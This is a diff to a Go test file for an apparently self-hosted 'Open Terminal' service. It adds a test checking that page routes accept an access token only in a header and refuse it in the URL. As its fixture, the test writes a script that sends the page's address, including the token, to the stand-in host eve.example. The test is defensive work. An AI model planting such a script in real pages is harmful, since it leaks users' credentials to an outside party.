@@ -57,9 +57,34 @@ func TestOpenTerminalRoutes(t *testing.T) {
 	}
 }
 
+// TestTokenInTheAddressOfAPage: the page of a hostile file or program would read the token in its own address, and send it
+// away. So the token of a request for such a page counts only in a header.
+func TestTokenInTheAddressOfAPage(t *testing.T) {
+	t.Parallel()
+	h := open(t)
+	ada, _ := h.adaAndEve(t)
+	const user = "X-User-Id"
+	if a := ada.ask(t, "POST", "/openterminal/files/write", `{"path":"page.html","content":"<script>new Image().src='http://eve.example/?'+location</script>"}`, user, "people-1"); a.status != http.StatusOK {
+		t.Fatalf("%d %s", a.status, a.body)
+	}
+	for _, path := range []string{"files/view?path=page.html&", "files/serve/home/user/page.html?", "proxy/1/?"} {
+		path = "/openterminal/" + path
+		if a := h.stranger().ask(t, "GET", path+"access_token="+ada.Secret, "", user, "people-1", "Authorization", ""); a.status != http.StatusUnauthorized {
+			t.Errorf("%s with the token in the address: %d %s", path, a.status, a.body)
+		}
+		if a := ada.ask(t, "GET", strings.TrimRight(path, "?&"), "", user, "people-1"); a.status == http.StatusUnauthorized {
+			t.Errorf("%s with the token in a header: %d %s", path, a.status, a.body)
+		}
+	}
+	if a := h.stranger().ask(t, "GET", "/openterminal/files/list?directory=.&access_token="+ada.Secret, "", user, "people-1", "Authorization", ""); a.status != http.StatusOK {
+		t.Errorf("a list, with the token in the address: %d %s", a.status, a.body)
+	}
+}
+
 // parametersOf are parameters with which the routes of Open Terminal show what there is.
 var parametersOf = map[string]string{
 	"GET /openterminal/files/list": "?directory=.", "GET /openterminal/files/read": "?path=secret", "GET /openterminal/files/display": "?path=secret",
 	"GET /openterminal/files/view": "?path=secret", "DELETE /openterminal/files/delete": "?path=secret", "POST /openterminal/files/upload": "?directory=.",
 	"GET /openterminal/files/grep": "?query=ada", "GET /openterminal/files/glob": "?pattern=secret",
+	"GET /openterminal/files/search": "?query=secret", "GET /openterminal/files/matches": "?query=ada", "GET /openterminal/skills/read": "?name=secret",
 }
